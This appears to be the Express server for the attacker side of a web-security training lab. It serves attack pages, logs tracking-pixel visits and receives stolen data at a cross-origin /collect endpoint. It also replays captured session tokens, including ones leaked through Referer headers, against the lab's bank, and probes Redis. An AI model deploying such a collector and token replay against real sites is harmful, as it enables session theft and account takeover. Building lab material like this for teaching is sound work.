import { randomBytes } from 'node:crypto';
import { join } from 'node:path';
import express, { type Express, type Request, type Response } from 'express';
import { bounds, createCollector, type Loot } from './collector.ts';
import { attackPage, isAttack, screenPage, visitPage, type Start } from './pages.ts';
import { createProgram, tokenIn } from './program.ts';
import { reach } from './reach.ts';
import {
  addressTokenIn,
  replay,
  stolenIn,
  type Address,
  type Answer,
  type Stolen,
  type Trace,
} from './replay.ts';
import { runPage, stepsOf, type RunSites } from './runner.ts';
import { studentInHeader, tapRoutes } from './tap/routes.ts';
import type { Tap } from './tap/tap.ts';

const studentShape = /^[\w-]{22}$/;
const markShape = /^[\w.-]{1,40}$/;
/** The page of the bank on which a run of a lab begins. */
const commentsPage = /^\/comments\/\?[\w&=.-]{1,300}$/;
/** Requests of this server to the bank at the same time. */
const replaysAtMost = 10;
const visitorMs = 1_800_000;
/** A transparent GIF of one pixel. */
// cspell:disable-next-line
const pixel = Buffer.from('R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7', 'base64');

/**
 * The attacker's site. It knows nothing of the app: it has pages, keeps what is sent to it, and uses what it has stolen.
 */
export function createAttacker({
  sites,
  bankAddress,
  bankTlsAddress,
  redisAddresses,
  tap,
  now,
}: {
  /** Origins of the bank and of this server in the browser. */
  sites: RunSites;
  /** Where this server reaches the bank. */
  bankAddress: Address;
  bankTlsAddress: Address;
  /** Where Redis is. This server tries to connect to it, for lab 14. */
  redisAddresses: readonly Address[];
  tap: Tap;
  now: () => number;
}): Express {
  const { bank } = sites;
  const collector = createCollector(now);
  const program = createProgram(now);
  let replays = 0;
  /** The tries in flight. All callers of this time receive their result. */
  let reaching: ReturnType<typeof reach> | undefined;
  const app = express();
  app.disable('x-powered-by');
  app.set('etag', false);
  app.set('query parser', 'simple');
  app.use((_req, res, next) => {
    res.set({ 'Cache-Control': 'no-store', 'X-Content-Type-Options': 'nosniff' });
    next();
  });

  app.get('/healthz', (_req, res) => void res.json({ ok: true }));
  app.use('/static', express.static(join(import.meta.dirname, '../pages/static')));

  /** Students know this address as the prize page. */
  app.get(['/prize', '/attack/:name'], (req, res) => {
    const name = String(req.params['name'] ?? 'form');
    const student = studentOf(req, res);
    if (student === undefined) return;
    if (!isAttack(name)) {
      res.sendStatus(404);
      return;
    }
    const start = startOf(req);
    const invitation = start === 'soon' ? { invitation: 'You do not have to press anything.' } : {};
    res.type('html').send(attackPage(name, { student, bank, start, ...invitation }));
  });

  /** One step of a run through many attacks, in one window. */
  app.get('/run', (req, res) => {
    const student = studentOf(req, res);
    if (student === undefined) return;
    const { plan, at: position = '0' } = req.query;
    const steps = typeof plan === 'string' ? stepsOf(plan) : undefined;
    const at = Number(position);
    if (typeof plan !== 'string' || steps === undefined || !Number.isInteger(at) || at < 0) {
      res.sendStatus(400);
      return;
    }
    const { origin, html } = runPage(steps, { plan, at, student, sites });
    if (new URL(origin).host === req.headers.host) res.type('html').send(html);
    else res.redirect(303, `${origin}${req.originalUrl}`);
  });

  app.get('/visit', (req, res) => {
    const student = studentOf(req, res);
    if (student === undefined) return;
    res.type('html').send(visitPage({ student, bank, start: startOf(req) }));
  });

  app.get('/pixel.gif', (req, res) => {
    const student = studentOf(req, res);
    if (student === undefined) return;
    const known = /(?:^|; )visitor=([\w-]{11})(?:;|$)/.exec(req.headers.cookie ?? '')?.[1];
    const visitor = known ?? randomBytes(8).toString('base64url');
    const text = `${known === undefined ? 'new' : 'known'} visitor ${visitor}`;
    collector.add(student, { kind: 'pixel', text, ...sourceOf(req) });
    res.cookie('visitor', visitor, { maxAge: visitorMs, sameSite: 'none', secure: true, httpOnly: true });
    res.type('gif').send(pixel);
    const { mark } = req.query;
    if (typeof mark === 'string' && markShape.test(mark)) tryReferer(student, mark, req.get('Referer') ?? '');
  });

  /** Tries the token of a `Referer` at the bank. The request repeats the `Referer`, so the student sees it, with the token or without. */
  function tryReferer(student: string, mark: string, referer: string): void {
    const token = addressTokenIn(referer);
    const trace = { query: `?student=${student}&mark=${mark}`, referer: referer.slice(0, bounds.characters) };
    void use(student, token === undefined ? undefined : { token, as: 'header' }, trace).catch(
      () => undefined,
    );
  }

  /** Resolves to undefined if too many requests to the bank are in flight. */
  async function use(
    student: string,
    stolen: Stolen | undefined,
    trace?: Trace,
  ): Promise<Answer | undefined> {
    if (replays >= replaysAtMost) return undefined;
    replays += 1;
    try {
      const answer = await replay(bank, bankAddress, stolen, trace);
      const text = `${answer.status} ${answer.text}`;
      collector.add(student, { kind: 'replay', text, origin: '', referer: '' });
      return answer;
    } finally {
      replays -= 1;
    }
  }

  /** The start of a run of a lab: starts the program, and leads on to the bank. */
  app.get('/program', (req, res) => {
    const student = studentOf(req, res);
    if (student === undefined) return;
    const { to } = req.query;
    if (typeof to !== 'string' || !commentsPage.test(to)) {
      res.sendStatus(400);
      return;
    }
    program.start(student);
    res.redirect(303, `${bank}${to}`);
  });

  const collect = (req: Request, res: Response): void => {
    // A stolen script may send from any page, and may not wait for the answer.
    res.set('Access-Control-Allow-Origin', '*');
    const student = studentOf(req, res);
    if (student === undefined) return;
    const body: unknown = req.body;
    const texts = [req.query['data'], body].filter((text) => typeof text === 'string');
    const text = texts.join(' ');
    collector.add(student, { kind: 'collect', text, ...sourceOf(req) });
    res.status(204).end();
    const stolen = program.isRunning(student) ? tokenIn(text) : undefined;
    // Without an answer of the bank, the screen shows none.
    if (stolen !== undefined) void use(student, stolen).catch(() => undefined);
  };
  app.get('/collect', collect);
  app.post(
    '/collect',
    express.text({ limit: 2 * bounds.characters, type: () => true, inflate: false }),
    collect,
  );

  app.get('/seen', (req, res) => {
    const student = studentOf(req, res);
    if (student !== undefined) res.json({ seen: collector.seen(student) });
  });
  app.post('/forget', (req, res) => {
    const student = studentOf(req, res);
    if (student !== undefined) res.json({ forgotten: collector.forget(student) });
  });
  app.get('/screen', (req, res) => {
    const student = studentOf(req, res);
    if (student !== undefined) res.type('html').send(screenPage({ student, bank, start: startOf(req) }));
  });

  app.post('/replay', express.json({ limit: 1024, inflate: false }), async (req, res) => {
    const student = studentOf(req, res);
    if (student === undefined) return;
    const stolen = stolenIn(req.body);
    if (stolen === undefined) {
      res.sendStatus(422);
      return;
    }
    try {
      const answer = await use(student, stolen);
      if (answer === undefined) res.sendStatus(429);
      else res.json(answer);
    } catch {
      res.sendStatus(502);
    }
  });

  app.post('/reach', async (req, res) => {
    if (studentInHeader(req, res) === undefined) return;
    reaching ??= reach(redisAddresses).finally(() => {
      reaching = undefined;
    });
    res.json({ attempts: await reaching });
  });

  app.use(
    '/tap',
    tapRoutes({
      tap,
      tlsTarget: bankTlsAddress,
      use: (student, token) => use(student, { token, as: 'header' }),
    }),
  );

  app.use((_req, res) => void res.sendStatus(404));
  // Express needs four parameters to recognise an error handler. The text of an error stays on the server.
  app.use((_error: unknown, _req: Request, res: Response, _next: unknown) => void res.sendStatus(400));
  return app;
}

/** Answers 400 and returns undefined without the id of a student. The id is safe in HTML. */
function studentOf(req: Request, res: Response): string | undefined {
  const { student } = req.query;
  if (typeof student === 'string' && studentShape.test(student)) return student;
  res.sendStatus(400);
  return undefined;
}

/** `?go` attacks at once, `?go=soon` after three seconds. Otherwise the page waits for a click. */
function startOf({ query: { go } }: Request): Start {
  if (go === undefined) return 'on-click';
  return go === 'soon' ? 'soon' : 'now';
}

const sourceOf = (req: Request): Pick<Loot, 'origin' | 'referer'> => ({
  origin: req.get('Origin') ?? '',
  referer: req.get('Referer') ?? '',
});
